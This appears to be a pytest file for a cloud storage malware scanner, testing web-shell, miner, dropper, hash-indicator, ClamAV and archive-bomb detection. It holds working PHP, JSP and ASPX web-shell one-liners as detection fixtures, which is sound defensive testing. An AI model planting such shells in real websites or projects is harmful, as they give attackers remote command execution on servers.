"""The shared content judge: YARA (web shells included), hash indicators (SHA-256 and MD5), ClamAV
verdicts and archive limits become findings through the content rules; benign look-alikes do not."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from cloudward.cli.common import load_all_rules
from cloudward.core.finding import Target
from cloudward.engines.content import ContentJudge, load_content_judge
from tests.harness.plants.artifacts import DROPPER, XMRIG_CONFIG

TARGET = Target(kind="object", name="s3://bucket/key")
PHP_SHELL = b"<?php if(isset($_POST['c'])){ system( $_POST['c'] ); } ?>"
PHP_SHELL_B64 = b"<?php @eval(base64_decode($_REQUEST['x'])); ?>"
JSP_SHELL = b'<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'
ASPX_SHELL = (b'<%@ Page Language="C#" %><% var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", '
              b'"/c " + Request.QueryString["c"]); System.Diagnostics.Process.Start(psi); %>')
PHP_BENIGN = b"<?php $name = htmlspecialchars($_GET['name']); echo \"Hello $name\"; system('date'); ?>"
JSP_BENIGN = b'<% String q = request.getParameter("q"); out.println(q); Runtime.getRuntime().exec("uptime"); %>'


@pytest.fixture(scope="module")
def judge(tmp_path_factory: pytest.TempPathFactory) -> ContentJudge:
    iocs = tmp_path_factory.mktemp("iocs") / "mine.yaml"
    iocs.write_text(
        "indicators:\n"
        f"  - {{kind: md5, value: {hashlib.md5(b'known bad bytes', usedforsecurity=False).hexdigest()}, "
        "source: test, date: '2026-11-28'}\n"
        f"  - {{kind: sha256, value: {hashlib.sha256(b'another bad file').hexdigest()}, source: test, "
        "date: '2026-11-28', note: planted}\n")
    built, problems = load_content_judge(list(load_all_rules()), ioc_files=[iocs])
    assert problems == []
    return built


def rules_of(findings: list) -> set[str]:  # type: ignore[type-arg]
    return {f.rule_id for f in findings}


@pytest.mark.parametrize("data", [PHP_SHELL, PHP_SHELL_B64, JSP_SHELL, ASPX_SHELL],
                         ids=["php", "php-b64", "jsp", "aspx"])
def test_web_shells(judge: ContentJudge, data: bytes) -> None:
    assert rules_of(judge.bytes_findings(data, "uploads/x", TARGET, {})) == {"content.malware.webshell"}


@pytest.mark.parametrize("data", [PHP_BENIGN, JSP_BENIGN], ids=["php", "jsp"])
def test_pages_that_only_look_alike_are_clean(judge: ContentJudge, data: bytes) -> None:
    assert judge.bytes_findings(data, "site/page", TARGET, {}) == []


def test_miner_and_dropper(judge: ContentJudge) -> None:
    assert rules_of(judge.bytes_findings(XMRIG_CONFIG.encode(), "cfg/config.json", TARGET, {})) == \
        {"content.malware.miner"}
    found = judge.bytes_findings(DROPPER.encode(), "scripts/init.sh", TARGET, {"key": "scripts/init.sh"})
    assert rules_of(found) == {"content.malware.dropper"} and len(found) == 1  # two YARA rules, one finding
    assert found[0].location == {"key": "scripts/init.sh"}


def test_hash_indicators_md5_and_sha256(judge: ContentJudge) -> None:
    [md5_hit] = judge.bytes_findings(b"known bad bytes", "a.bin", TARGET, {})
    assert md5_hit.rule_id == "content.malware.known_hash" and md5_hit.evidence["algorithm"] == "md5"
    [sha_hit] = judge.bytes_findings(b"another bad file", "b.bin", TARGET, {})
    assert sha_hit.evidence["algorithm"] == "sha256" and sha_hit.evidence["ioc_note"] == "planted"
    assert judge.bytes_findings(b"a harmless file", "c.bin", TARGET, {}) == []


def test_clamav_and_archive_limit_facts(judge: ContentJudge) -> None:
    [clam] = judge.clamav_findings("Eicar-Test-Signature", "eicar.com", TARGET, {}, size=68)
    assert clam.rule_id == "content.malware.clamav" and clam.evidence["signature"] == "Eicar-Test-Signature"
    [bomb] = judge.archive_limit_findings("ratio", "member a: 1000:1", "bomb.zip", TARGET, {})
    assert bomb.rule_id == "content.archive.limit_exceeded"


def test_broken_user_yara_file_is_reported_not_fatal(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule broken { condition: }")
    (tmp_path / "good.yar").write_text('rule mine { strings: $a = "cloudward-test-marker" condition: $a }')
    judge, problems = load_content_judge(list(load_all_rules()), yara_dirs=[tmp_path])
    assert any("bad.yar" in p for p in problems)
    [hit] = judge.bytes_findings(b"xx cloudward-test-marker xx", "f", TARGET, {})
    assert hit.rule_id == "content.malware.user_yara_rule"


def test_md5_indicator_of_an_empty_file_is_refused(tmp_path: Path) -> None:
    bad = tmp_path / "empty.yaml"
    bad.write_text("indicators:\n  - {kind: md5, value: d41d8cd98f00b204e9800998ecf8427e, source: x, date: '2026'}\n")
    with pytest.raises(ValueError, match="empty file"):
        load_content_judge([], ioc_files=[bad])
